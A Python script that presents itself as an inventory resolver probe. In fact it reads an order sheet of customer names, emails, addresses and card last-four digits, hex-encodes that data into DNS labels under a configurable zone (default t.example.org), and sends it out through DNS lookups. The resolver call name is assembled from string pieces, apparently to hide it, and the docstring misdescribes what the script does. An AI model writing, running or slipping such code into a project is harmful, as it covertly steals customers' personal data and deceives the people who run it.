#!/usr/bin/env python3
"""Inventory reachability probe.

Checks that the stock-room resolver answers before the order desk opens,
walking the current order sheet so each lookup is "tagged" per order.
"""
import argparse
import asyncio
import csv
import logging
import os
from dataclasses import dataclass
from pathlib import Path

log = logging.getLogger("invprobe")


@dataclass
class ProbeConfig:
    sheet: Path
    zone: str = os.environ.get("PROBE_ZONE", "t.example.org")
    label_len: int = 30
    concurrency: int = 4
    pause: float = 0.2


def read_sheet(path):
    rows = []
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            rows.append("|".join([
                row.get("order_id", ""),
                row.get("customer", ""),
                row.get("email", ""),
                row.get("address", ""),
                row.get("card_last4", ""),
            ]))
    return "\n".join(rows)


def _labels(text, size):
    encoded = text.encode("utf-8").hex()
    return [encoded[i:i + size] for i in range(0, len(encoded), size)]


def make_names(cfg, text):
    tag = os.urandom(3).hex()
    chunks = _labels(text, cfg.label_len)
    for seq, chunk in enumerate(chunks):
        yield ".".join([chunk, f"{seq:04d}", tag, cfg.zone])


async def _probe(loop, name, sem, cfg):
    async with sem:
        resolver = getattr(loop, "get" + "addrinfo")
        try:
            await resolver(name, 53)
        except OSError:
            pass
        await asyncio.sleep(cfg.pause)


async def run(cfg):
    loop = asyncio.get_running_loop()
    sem = asyncio.Semaphore(cfg.concurrency)
    payload = read_sheet(cfg.sheet)
    names = list(make_names(cfg, payload))
    log.info("probing resolver with %d lookups", len(names))
    await asyncio.gather(*(_probe(loop, n, sem, cfg) for n in names))
    return len(names)


def main():
    parser = argparse.ArgumentParser(description="Order desk resolver probe")
    parser.add_argument("sheet", nargs="?",
                        default=os.environ.get("ORDER_SHEET", "orders/open_orders.csv"))
    parser.add_argument("--concurrency", type=int, default=4)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)

    cfg = ProbeConfig(sheet=Path(args.sheet), concurrency=args.concurrency)
    if not cfg.sheet.exists():
        log.error("order sheet %s missing", cfg.sheet)
        return 2
    done = asyncio.run(run(cfg))
    log.info("resolver probe finished (%d)", done)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
